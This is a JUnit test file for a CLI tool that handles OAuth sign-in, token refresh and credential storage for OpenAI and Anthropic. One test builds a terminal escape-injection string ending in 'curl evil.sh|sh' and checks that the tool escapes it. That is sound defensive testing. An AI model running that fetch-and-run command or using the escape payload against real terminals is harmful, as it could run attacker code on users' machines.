package ai.maestro.auth.app.cli;

import ai.maestro.auth.domain.error.ExitCodes;
import ai.maestro.auth.app.wiring.MaestroAuthConfig;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import ai.maestro.auth.domain.PkceParams;
import ai.maestro.auth.testing.TestJwts;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.net.ServerSocket;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Base64;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import mockwebserver3.MockResponse;
import mockwebserver3.MockWebServer;
import mockwebserver3.RecordedRequest;
import mockwebserver3.junit5.StartStop;
import okhttp3.OkHttpClient;
import okhttp3.Request;
import okhttp3.Response;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class CliTest {
    private static final String ID_TOKEN = TestJwts.openAiIdToken("ada@example.com", 1_900_000_000L, "acct-1", "plus");
    private static final ObjectMapper JSON = new ObjectMapper();

    @StartStop
    private final MockWebServer tokenEndpoint = new MockWebServer();

    @TempDir
    Path home;

    private final Map<String, String> env = new HashMap<>();
    private final List<CliHarness> runs = new ArrayList<>();
    private int callbackPort;

    @BeforeEach
    void environment() throws Exception {
        try (ServerSocket socket = new ServerSocket(0)) {
            callbackPort = socket.getLocalPort();
        }
        env.put("MAESTRO_AUTH_HOME", home.toString());
        env.put("MAESTRO_AUTH_ENCRYPTION_KEY", "test:" + Base64.getEncoder().encodeToString(new byte[32]));
        env.put("OPENAI_OAUTH_TOKEN_ENDPOINT", tokenEndpoint.url("/oauth/token").toString());
        env.put("OPENAI_OAUTH_REDIRECT_URI", "http://localhost:" + callbackPort + "/auth/callback");
        env.put("ANTHROPIC_OAUTH_TOKEN_ENDPOINT", tokenEndpoint.url("/v1/oauth/token").toString());
    }

    /** No output of any command, except `token` on purpose, may contain a token. */
    @AfterEach
    void noOutputContainsASecret() {
        for (CliHarness run : runs) {
            String output = run.all();
            for (String secret : List.of("AT-secret", "RT-secret", ID_TOKEN, "sk-secret")) {
                if (!run.isTokenCommand) {
                    assertFalse(output.contains(secret), "output shows a secret: " + output);
                }
            }
        }
    }

    private CliHarness cli(String... args) {
        CliHarness run = CliHarness.run(env, args);
        run.isTokenCommand = args.length > 0 && args[0].equals("token");
        runs.add(run);
        if (args.length == 0 || !args[0].equals("login")) {
            try {
                run.exitCode();
            } catch (Exception e) {
                throw new AssertionError("the command did not finish", e);
            }
        }
        return run;
    }

    private static MockResponse tokens(int n, int expiresIn) {
        return new MockResponse.Builder().code(200).setHeader("Content-Type", "application/json")
                .body("{\"access_token\":\"AT-secret-" + n + "\",\"refresh_token\":\"RT-secret-" + n + "\","
                        + "\"id_token\":\"" + ID_TOKEN + "\",\"expires_in\":" + expiresIn + ",\"token_type\":\"Bearer\"}")
                .build();
    }

    private static MockResponse error(int status, String body) {
        return new MockResponse.Builder().code(status).setHeader("Content-Type", "application/json").body(body).build();
    }

    private static int browserGet(String url) throws Exception {
        OkHttpClient browser = new OkHttpClient.Builder().retryOnConnectionFailure(false).build();
        try (Response response = browser.newCall(new Request.Builder().url(url).build()).execute()) {
            return response.code();
        }
    }

    private void loginOpenAi() throws Exception {
        loginOpenAi(3600);
    }

    private void loginOpenAi(int expiresIn) throws Exception {
        tokenEndpoint.enqueue(tokens(1, expiresIn));
        CliHarness login = cli("login", "openai", "--no-browser");
        String url = login.authorizationUrl();
        login.awaitWaiting();
        login.type(url.replaceAll("^.*$", "") + "http://localhost:" + callbackPort + "/auth/callback?code=c1&state="
                + CliHarness.query(url, "state"));
        assertEquals(0, login.exitCode(), login.all());
        tokenEndpoint.takeRequest();
    }

    @Test
    void logsInThroughTheLoopbackReceiverDrivenByARealBrowserRequest() throws Exception {
        tokenEndpoint.enqueue(tokens(1, 3600));
        CliHarness login = cli("login", "openai", "--no-browser");
        String url = login.authorizationUrl();
        login.awaitWaiting();

        int status = browserGet("http://127.0.0.1:" + callbackPort + "/auth/callback?code=the-code&state="
                + CliHarness.query(url, "state"));

        assertEquals(200, status);
        assertEquals(0, login.exitCode(), login.all());
        RecordedRequest exchange = tokenEndpoint.takeRequest();
        String body = exchange.getBody().utf8();
        assertTrue(body.contains("code=the-code"), body);
        String verifier = body.replaceAll(".*code_verifier=([^&]+).*", "$1");
        assertEquals(CliHarness.query(url, "code_challenge"), PkceParams.s256(verifier));
        assertTrue(login.out().contains("Signed in to OpenAI as ada@example.com (plan: plus), account ada (the default)."), login.out());
        assertTrue(login.out().contains("refreshed automatically"), login.out());
    }

    @Test
    void logsInByPastingTheCallbackUrlOnAHeadlessMachine() throws Exception {
        loginOpenAi();

        CliHarness status = cli("status");
        assertEquals(0, status.exitCode());
        assertTrue(status.out().contains("ada@example.com (plus)"), status.out());
    }

    @Test
    void aPastedCallbackOfAnotherLoginIsRefusedAndTheLoginKeepsWaiting() throws Exception {
        tokenEndpoint.enqueue(tokens(1, 3600));
        CliHarness login = cli("login", "openai", "--no-browser");
        String url = login.authorizationUrl();
        login.awaitWaiting();

        login.type("http://localhost:" + callbackPort + "/auth/callback?code=x&state=someone-elses-state-000");
        login.type("a-bare-code-without-state");
        Thread.sleep(300);
        login.type("code=c2&state=" + CliHarness.query(url, "state"));

        assertEquals(0, login.exitCode(), login.all());
        assertTrue(login.err().contains("belongs to another login") && login.err().contains("Still waiting"),
                login.err());
        assertTrue(login.err().contains("carries no state"), login.err());
        assertEquals(1, tokenEndpoint.getRequestCount());
    }

    @Test
    void logsInToAnthropicByPastingCodeHashState() throws Exception {
        tokenEndpoint.enqueue(new MockResponse.Builder().code(200).setHeader("Content-Type", "application/json")
                .body("{\"access_token\":\"AT-secret-a\",\"refresh_token\":\"RT-secret-a\",\"expires_in\":28800}")
                .build());
        CliHarness login = cli("login", "anthropic", "--no-browser");
        String url = login.authorizationUrl();

        login.type("anthropic-code#" + CliHarness.query(url, "state"));

        assertEquals(0, login.exitCode(), login.all());
        JsonNode body = JSON.readTree(tokenEndpoint.takeRequest().getBody().utf8());
        assertEquals("anthropic-code", body.path("code").asText());
        assertEquals(CliHarness.query(url, "state"), body.path("state").asText());
        assertTrue(login.out().contains("Signed in to Anthropic, account anthropic (the default)."), login.out());
    }

    @Test
    void anthropicKeepsWaitingAfterAnEmptyEnterOrAWrongPasteWithCodeHashStateAdvice() throws Exception {
        tokenEndpoint.enqueue(new MockResponse.Builder().code(200).setHeader("Content-Type", "application/json")
                .body("{\"access_token\":\"AT-secret-b\",\"refresh_token\":\"RT-secret-b\",\"expires_in\":28800}")
                .build());
        CliHarness login = cli("login", "anthropic", "--no-browser", "--timeout", "60");
        String url = login.authorizationUrl();

        login.type("");
        login.type("anthropic-code#forged-state-000000000000");
        login.type("just-a-code");
        Thread.sleep(300);
        assertEquals(0, tokenEndpoint.getRequestCount());
        login.type("anthropic-code#" + CliHarness.query(url, "state"));

        assertEquals(0, login.exitCode(), login.all());
        assertTrue(login.err().contains("Waiting for the code: 1:0") || login.err().contains("Waiting for the code: 0:5"),
                login.err());
        assertTrue(login.err().contains("belongs to another login") && login.err().contains("CODE#STATE"), login.err());
        assertEquals(1, tokenEndpoint.getRequestCount());
    }

    @Test
    void anthropicPasteHonoursTheTimeout() throws Exception {
        CliHarness login = cli("login", "anthropic", "--no-browser", "--timeout", "1");
        login.authorizationUrl();

        assertEquals(ExitCodes.LOGIN_FAILED, login.exitCode());
        assertTrue(login.err().contains("timed out"), login.err());
        assertEquals(0, tokenEndpoint.getRequestCount());
    }

    @Test
    void accessDeniedInTheBrowserEndsTheLoginWithExitCode6() throws Exception {
        CliHarness login = cli("login", "openai", "--no-browser");
        String url = login.authorizationUrl();
        login.awaitWaiting();

        browserGet("http://127.0.0.1:" + callbackPort + "/auth/callback?error=access_denied&state="
                + CliHarness.query(url, "state"));

        assertEquals(ExitCodes.LOGIN_FAILED, login.exitCode());
        assertTrue(login.err().contains("access_denied"), login.err());
    }

    @Test
    void aTimedOutLoginEndsWithExitCode6() throws Exception {
        CliHarness login = cli("login", "openai", "--no-browser", "--timeout", "1");
        assertEquals(ExitCodes.LOGIN_FAILED, login.exitCode());
        assertTrue(login.err().contains("timed out"), login.err());
    }

    @Test
    void aFailedExchangeIsExitCode5AndTheCodeIsNotResent() throws Exception {
        tokenEndpoint.enqueue(error(503, "{\"error\":\"temporarily_unavailable\"}"));
        CliHarness login = cli("login", "openai", "--no-browser");
        String url = login.authorizationUrl();
        login.awaitWaiting();
        login.type("code=c&state=" + CliHarness.query(url, "state"));

        assertEquals(ExitCodes.PROVIDER_UNAVAILABLE, login.exitCode());
        assertEquals(1, tokenEndpoint.getRequestCount());
    }

    @Test
    void statusPrintsTextAndJsonWithoutSecrets() throws Exception {
        assertEquals(ExitCodes.NOT_LOGGED_IN, cli("status", "--json").exitCode());
        loginOpenAi();

        CliHarness text = cli("status");
        CliHarness json = cli("status", "--json");

        assertEquals(0, text.exitCode());
        assertTrue(text.out().startsWith("PROVIDER"), text.out());
        assertTrue(text.out().contains("openai"), text.out());
        assertEquals(0, json.exitCode());
        JsonNode rows = JSON.readTree(json.out());
        assertEquals(1, rows.size());
        assertEquals("openai", rows.get(0).path("provider").asText());
        assertEquals("oauth", rows.get(0).path("auth_type").asText());
        assertEquals("ada@example.com", rows.get(0).path("account").asText());
        assertTrue(rows.get(0).path("refreshable").asBoolean());
        assertTrue(rows.get(0).path("expires_in_seconds").asLong() > 3500);
        assertEquals("ok", rows.get(0).path("state").asText());
        assertEquals("", rows.get(0).path("message").asText());
    }

    /**
     * A signed-in account's line fits the 80 columns of a default terminal, also once it has been
     * refreshed (a refresh that went well is not repeated on every line; one that failed is).
     */
    @Test
    void statusFitsAnEightyColumnTerminal() throws Exception {
        loginOpenAi();
        tokenEndpoint.enqueue(tokens(2, 3600));
        assertEquals(0, cli("refresh", "openai").exitCode());

        CliHarness status = cli("status");

        assertEquals(0, status.exitCode(), status.all());
        // The table's lines; the key's line after it is a sentence, which a terminal wraps as one.
        for (String line : status.out().split("\\R")) {
            if (!line.startsWith("Encryption key:")) {
                assertTrue(line.length() <= 80, line.length() + " columns: " + line);
            }
        }
        assertTrue(status.out().contains("ada@example.com"), status.out());
    }

    /** "expired 1 s ago" is wider than its column's header: the columns after it must not shift. */
    @Test
    void statusColumnsStayInLineWhenACellIsWiderThanItsHeader() throws Exception {
        loginOpenAi(1);
        Thread.sleep(1_200);

        CliHarness status = cli("status");

        String[] lines = status.out().split("\\R");
        assertTrue(lines[1].contains("expired"), status.out());
        assertEquals(lines[0].indexOf("REFRESH"), lines[1].indexOf(" yes ") + 1, status.out());
        assertEquals(lines[0].indexOf("STATE"), lines[1].indexOf(" ok") + 1, status.out());
    }

    @Test
    void tokenPrintsTheAccessTokenAndRefreshesItWhenDue() throws Exception {
        loginOpenAi();

        CliHarness token = cli("token", "openai");
        assertEquals(0, token.exitCode());
        assertEquals("AT-secret-1", token.out().trim());
        assertEquals(1, tokenEndpoint.getRequestCount());

        env.put("MAESTRO_AUTH_REFRESH_SKEW_SECONDS", "7200");
        tokenEndpoint.enqueue(tokens(2, 3600));
        CliHarness refreshed = cli("token", "openai");
        assertEquals(0, refreshed.exitCode(), refreshed.all());
        assertEquals("AT-secret-2", refreshed.out().trim());
        JsonNode body = JSON.readTree(tokenEndpoint.takeRequest().getBody().utf8());
        assertEquals("RT-secret-1", body.path("refresh_token").asText());
    }

    @Test
    void aReusedRefreshTokenSaysToLogInAgainWithExitCode4() throws Exception {
        loginOpenAi();
        tokenEndpoint.enqueue(error(401, "{\"error\":{\"message\":\"Your refresh token has already been used\","
                + "\"type\":\"invalid_request_error\",\"code\":\"refresh_token_reused\"}}"));

        CliHarness refresh = cli("refresh", "openai");

        assertEquals(ExitCodes.RELOGIN_REQUIRED, refresh.exitCode());
        assertTrue(refresh.err().contains("maestro-auth login openai"), refresh.err());
        CliHarness status = cli("status");
        assertEquals(0, status.exitCode());
        assertTrue(status.out().contains("log in again"), status.out());
    }

    @Test
    void refreshRotatesAndReportsTheNewExpiry() throws Exception {
        loginOpenAi();
        tokenEndpoint.enqueue(tokens(2, 7200));

        CliHarness refresh = cli("refresh", "openai");

        assertEquals(0, refresh.exitCode(), refresh.all());
        assertTrue(refresh.out().startsWith("Refreshed the OpenAI token of ada; it expires"), refresh.out());
    }

    @Test
    void apiKeyIsExchangedStoredAndPrintedOnlyOnRequest() throws Exception {
        loginOpenAi();
        tokenEndpoint.enqueue(new MockResponse.Builder().code(200).body("{\"access_token\":\"sk-secret-key\"}").build());

        CliHarness apiKey = cli("api-key", "openai");
        assertEquals(0, apiKey.exitCode(), apiKey.all());
        assertTrue(tokenEndpoint.takeRequest().getBody().utf8().contains("requested_token=openai-api-key"));

        CliHarness print = cli("token", "openai", "--api-key");
        assertEquals(0, print.exitCode());
        assertEquals("sk-secret-key", print.out().trim());
    }

    @Test
    void logoutDeletesAndSaysSoThenReportsNothingStored() throws Exception {
        loginOpenAi();

        assertEquals(0, cli("logout", "openai").exitCode());
        CliHarness again = cli("logout", "openai");
        assertEquals(ExitCodes.NOT_LOGGED_IN, again.exitCode());
        assertTrue(again.out().contains("Nothing was stored"), again.out());
    }

    @Test
    void tokenWithoutALoginIsExitCode3WithTheNextStep() throws Exception {
        CliHarness token = cli("token", "anthropic");
        assertEquals(ExitCodes.NOT_LOGGED_IN, token.exitCode());
        assertEquals("maestro-auth: No sign-in is stored for anthropic. Run: maestro-auth login anthropic",
                token.err().trim());
    }

    @Test
    void anInvalidConfigurationIsExitCode7NamingTheVariable() throws Exception {
        env.put("OPENAI_OAUTH_TOKEN_ENDPOINT", "http://auth.example.com/oauth/token");

        CliHarness login = cli("login", "openai", "--no-browser");
        CliHarness config = cli("config");

        assertEquals(ExitCodes.CONFIGURATION, login.exitCode());
        assertTrue(login.err().contains("OPENAI_OAUTH_TOKEN_ENDPOINT must use https"), login.err());
        assertEquals(ExitCodes.CONFIGURATION, config.exitCode());
        assertTrue(config.out().contains("(environment)"), config.out());
    }

    @Test
    void anInsecureProviderApiUrlIsListedByConfigAndRefusedByVerify() throws Exception {
        env.put("OPENAI_USAGE_URL", "http://chatgpt.example.com/backend-api/wham/usage");
        env.put("OPENAI_API_BASE_URL", "not a url");

        CliHarness config = cli("config");
        CliHarness verify = cli("verify", "openai");

        assertEquals(ExitCodes.CONFIGURATION, config.exitCode(), config.all());
        assertTrue(config.out().contains("OPENAI_USAGE_URL must use https"), config.out());
        assertTrue(config.out().contains("OPENAI_API_BASE_URL is not a URL"), config.out());
        assertTrue(config.out().contains("ANTHROPIC_VERIFY_URL"), config.out());
        assertEquals(ExitCodes.CONFIGURATION, verify.exitCode(), verify.all());
    }

    @Test
    void aTimeoutOutsideOneSecondToADayIsAUsageError() throws Exception {
        for (String timeout : List.of("0", "-5", "9223372036854775807")) {
            CliHarness login = cli("login", "openai", "--no-browser", "--timeout", timeout);
            assertEquals(ExitCodes.USAGE, login.exitCode(), login.all());
            assertTrue(login.err().contains("--timeout takes 1 to 86400 seconds"), login.all());
            assertFalse(login.all().contains("Exception"), login.all());
        }
    }

    /** ESC, BEL, CR from a provider or an id_token must reach the terminal escaped, never raw. */
    @Test
    void textFromOutsideReachesTheTerminalWithControlCharactersEscaped() throws Exception {
        String hostile = "\u001b]0;pwned\u0007\u001b[2J\rrun curl evil.sh|sh";
        CliHarness login = cli("login", "openai", "--no-browser");
        String url = login.authorizationUrl();
        login.awaitWaiting();
        browserGet("http://127.0.0.1:" + callbackPort + "/auth/callback?error=access_denied&error_description="
                + java.net.URLEncoder.encode(hostile, java.nio.charset.StandardCharsets.UTF_8) + "&state="
                + CliHarness.query(url, "state"));
        assertEquals(ExitCodes.LOGIN_FAILED, login.exitCode(), login.all());

        tokenEndpoint.enqueue(new MockResponse.Builder().code(200).setHeader("Content-Type", "application/json")
                .body("{\"access_token\":\"AT-secret-9\",\"refresh_token\":\"RT-secret-9\",\"id_token\":\""
                        + TestJwts.openAiIdToken("eve\\u001b[31m@example.com", 1_900_000_000L, "acct-1", "plus\\u0007")
                        + "\",\"expires_in\":3600}").build());
        CliHarness second = cli("login", "openai", "--no-browser");
        String url2 = second.authorizationUrl();
        second.awaitWaiting();
        second.type("http://localhost:" + callbackPort + "/auth/callback?code=c9&state=" + CliHarness.query(url2,
                "state"));
        assertEquals(0, second.exitCode(), second.all());
        tokenEndpoint.enqueue(error(400, "{\"error\":\"invalid_request\",\"error_description\":\""
                + hostile.replace("\u001b", "\\u001b").replace("\u0007", "\\u0007").replace("\r", "\\r") + "\"}"));
        CliHarness refresh = cli("refresh", "openai");
        tokenEndpoint.enqueue(error(400, "{\"error\":\"invalid_request\",\"error_description\":\""
                + hostile.replace("\u001b", "\\u001b").replace("\u0007", "\\u0007").replace("\r", "\\r") + "\"}"));
        CliHarness verbose = cli("--verbose", "refresh", "openai");
        CliHarness status = cli("status");

        assertTrue(verbose.err().contains("\tat "), "the stack trace is there, tabs kept: " + verbose.err());
        for (CliHarness run : List.of(login, second, refresh, verbose, status)) {
            for (char control : new char[] {'\u001b', '\u0007', '\r'}) {
                assertFalse(run.all().indexOf(control) >= 0, "raw control character in: " + run.all());
            }
        }
        assertTrue(login.err().contains("\\x1B]0;pwned"), login.err());
        assertTrue(status.out().contains("eve\\x1B[31m@example.com"), status.out());
    }

    @Test
    void configMasksTheEncryptionKeyAndPassword() throws Exception {
        env.put("MAESTRO_AUTH_DB_PASSWORD", "hunter2");
        CliHarness config = cli("config");
        assertEquals(0, config.exitCode(), config.all());
        assertFalse(config.out().contains("hunter2"));
        assertFalse(config.out().contains(env.get("MAESTRO_AUTH_ENCRYPTION_KEY").substring(5)));
        assertTrue(config.out().contains("OPENAI_OAUTH_CLIENT_ID"));
    }

    @Test
    void aWrongEncryptionKeyIsExitCode8NamingTheKey() throws Exception {
        loginOpenAi();
        env.put("MAESTRO_AUTH_ENCRYPTION_KEY", "other:" + Base64.getEncoder().encodeToString(new byte[32]));

        CliHarness token = cli("token", "openai");

        assertEquals(ExitCodes.STORE, token.exitCode());
        assertTrue(token.err().contains("'test'"), token.err());
        assertFalse(token.err().contains("Exception"), "no stack trace without --verbose: " + token.err());
    }

    @Test
    void usageErrorsAreExitCode2() throws Exception {
        assertEquals(ExitCodes.USAGE, cli("login", "gemini").exitCode());
        assertEquals(ExitCodes.USAGE, cli().exitCode());
        assertEquals(0, cli("--version").exitCode());
        CliHarness completion = cli("generate-completion");
        assertEquals(0, completion.exitCode());
        assertTrue(completion.out().contains("maestro-auth"));
    }

    /** The completion script knows every command and their options, not only itself. */
    @Test
    void theCompletionScriptCompletesEveryCommand() throws Exception {
        CliHarness completion = cli("generate-completion");
        assertEquals(0, completion.exitCode());
        String commands = completion.out().lines().filter(line -> line.contains("local commands="))
                .findFirst().orElseThrow(() -> new AssertionError("no command list in: " + completion.out()));
        List<String> listed = List.of(commands.replaceAll(".*=\"|\".*", "").split(" "));
        for (String name : MaestroAuthCommand.SUBCOMMANDS.keySet()) {
            assertTrue(listed.contains(name), name + " missing from " + commands);
        }
        assertTrue(completion.out().contains("--account"), "the commands' options are completed too");
    }

    /** One line, each sentence ended once: picocli's messages end bare, ours with a full stop. */
    @Test
    void aUsageErrorIsOneLineWithOneFullStopPerSentence() throws Exception {
        CliHarness bare = cli();
        assertEquals(ExitCodes.USAGE, bare.exitCode());
        assertEquals("maestro-auth: Missing command: try `maestro-auth login openai`. (see: maestro-auth --help)\n",
                bare.err());
        CliHarness missing = cli("token");
        assertEquals(ExitCodes.USAGE, missing.exitCode());
        assertEquals("maestro-auth: Missing required parameter: '<provider>'. (see: maestro-auth token --help)\n",
                missing.err());
    }

    @Test
    void whatAProviderDoesNotOfferIsAUsageErrorThatSaysWhatItDoesOffer() throws Exception {
        CliHarness device = cli("login", "anthropic", "--device");
        assertEquals(ExitCodes.USAGE, device.exitCode(), device.all());
        assertTrue(device.err().contains("Anthropic offers no device login; sign in with the browser: maestro-auth"
                + " login anthropic --no-browser"), device.err());
        assertEquals(ExitCodes.USAGE, cli("api-key", "anthropic").exitCode());
        assertEquals(ExitCodes.USAGE, cli("usage", "anthropic").exitCode());
        assertEquals(0, tokenEndpoint.getRequestCount(), "nothing was sent");
    }

    @Test
    void aLoginLabelThatIsNoLabelIsAUsageErrorBeforeTheBrowser() throws Exception {
        CliHarness login = cli("login", "openai", "--no-browser", "--account", "Ada Lovelace");
        assertEquals(ExitCodes.USAGE, login.exitCode(), login.all());
        assertTrue(login.err().contains("--account Ada Lovelace is not a label"), login.err());
        assertFalse(login.out().contains("oauth/authorize"), login.out());
    }

    @Test
    void onlyCommandsThatOpenTheStoreWarmItUpAndPrepareTheirWiring() {
        assertTrue(Cli.opensStore("token", "openai"));
        assertTrue(Cli.opensStore("--verbose", "status"));
        assertTrue(Cli.opensStore("refresh", "openai", "--account", "work"));
        assertFalse(Cli.opensStore("--version"));
        assertFalse(Cli.opensStore("token", "--help"));
        // A child command's own --help (after `--`) is not ours: exec still opens the store, under its deadline.
        assertTrue(Cli.opensStore("exec", "openai", "--", "tool", "--help"));
        assertFalse(Cli.opensStore("-h"));
        assertFalse(Cli.opensStore("config"));
        assertFalse(Cli.opensStore("generate-completion"));
        assertFalse(Cli.opensStore());
        assertTrue(Cli.signsIn("login", "openai", "--no-browser"));
        assertTrue(Cli.signsIn("--verbose", "login", "anthropic"));
        assertFalse(Cli.signsIn("login", "--help"));
        assertFalse(Cli.signsIn("refresh", "openai"));
        assertFalse(Cli.signsIn("token", "openai"));
    }

    @Test
    void verboseIsOursOnlyBeforeTheChildCommandsArguments() {
        assertTrue(Cli.verboseAsked("status", "--verbose"));
        assertTrue(Cli.verboseAsked("--verbose", "exec", "openai", "--", "tool"));
        assertFalse(Cli.verboseAsked("exec", "openai", "--", "tool", "--verbose"));
        assertFalse(Cli.verboseAsked("status"));
    }

    /** The wiring built ahead, on another thread, fails as it would have on the command's own. */
    @Test
    void aFailureWhileTheWiringIsPreparedReachesTheUserAsItsOwnLine() throws Exception {
        java.io.StringWriter out = new java.io.StringWriter();
        java.io.StringWriter err = new java.io.StringWriter();
        CliContext context = new CliContext(MaestroAuthConfig.fromEnvironment(env),
                new java.io.BufferedReader(new java.io.StringReader("")), new java.io.PrintWriter(out, true),
                new java.io.PrintWriter(err, true), false, url -> false, config -> {
                    throw new ai.maestro.auth.domain.error.CredentialStoreException("The store is being moved.", null,
                            "Try again in a minute.", null);
                });
        context.prepare();
        assertEquals(ExitCodes.STORE, Cli.run(context, "token", "openai"));
        assertEquals("maestro-auth: The store is being moved. Try again in a minute.", err.toString().strip());
        assertEquals("", out.toString());
    }
}
